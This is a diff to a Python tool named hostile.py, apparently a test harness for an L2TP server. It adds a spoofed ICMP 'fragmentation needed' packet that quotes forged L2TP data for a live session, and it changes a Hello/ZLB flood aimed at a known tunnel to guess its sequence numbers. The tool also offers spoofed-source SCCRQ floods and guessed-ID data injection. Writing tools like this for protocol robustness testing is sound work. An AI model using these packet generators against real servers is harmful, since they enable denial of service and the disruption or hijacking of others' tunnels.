@@ -5,7 +5,8 @@
 hostile.py list                        names of all classes
 hostile.py send CLASS [OPTION...]      sends one class
 hostile.py sccrq-flood COUNT PREFIX    SCCRQ, each from another source of PREFIX (a.b)
-hostile.py hello-flood COUNT           Hello and ZLB with guessed tunnel IDs
+hostile.py hello-flood COUNT           Hello and ZLB to the tunnel, Ns and Nr guessed
+hostile.py frag-needed MTU             ICMP 3/4 that quotes data to --tunnel and --session
 hostile.py guess COUNT                 data with guessed tunnel and session IDs
 
 Options: --server --source --port (ours) --tunnel --session (of a live session)
@@ -389,6 +390,14 @@ def _(a):
     yield data(a.tunnel, a.session, message(4, avp(1, u16(1)), tunnel=a.tunnel))
 
 
+def frag_needed(a, mtu):
+    """Quotes a packet of the server to us; it has the peer's IDs (DP-TX-1, DP-ICMP-5)."""
+    quoted = ipv4(a.server, a.source, 17, struct.pack("!HHHH", 1701, a.port, 1400, 0) +
+                  data(a.tunnel, a.session, b"\xff\x03\x00\x21"), flags=0x4000, total=1420)
+    icmp = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quoted
+    return ipv4(a.source, a.server, 1, icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:])
+
+
 def send(sock, a, item):
     port = a.port
     if isinstance(item, tuple) and item[0] == "from":
@@ -434,15 +443,19 @@ def main():
     if a.what == "send":
         for item in CLASSES[a.arguments[0]](a):
             send(sock, a, item)
+    elif a.what == "frag-needed":
+        send(sock, a, ("ip", frag_needed(a, int(a.arguments[0]))))
     elif a.what == "sccrq-flood":
         prefix = a.arguments[1]
         flood(sock, a, int(a.arguments[0]),
               lambda n: ("%s.%d.%d" % (prefix, n >> 8 & 255, n & 255), 1701, sccrq()))
     elif a.what == "hello-flood":
+        # Ns and Nr are far from those in use: whoever guesses these and the ID is the peer.
+        far = lambda: rnd.randrange(0x4000, 0xC000)
         flood(sock, a, int(a.arguments[0]),
               lambda n: (a.source, a.port,
-                         message(6, tunnel=rnd.randrange(65536), ns=rnd.randrange(65536))
-                         if n & 1 else control(b"", tunnel=rnd.randrange(65536))))
+                         message(6, tunnel=a.tunnel, ns=far(), nr=far())
+                         if n & 1 else control(b"", tunnel=a.tunnel, ns=far(), nr=far())))
     elif a.what == "guess":
         flood(sock, a, int(a.arguments[0]),
               lambda n: (a.source, a.port if n & 1 else 1701,
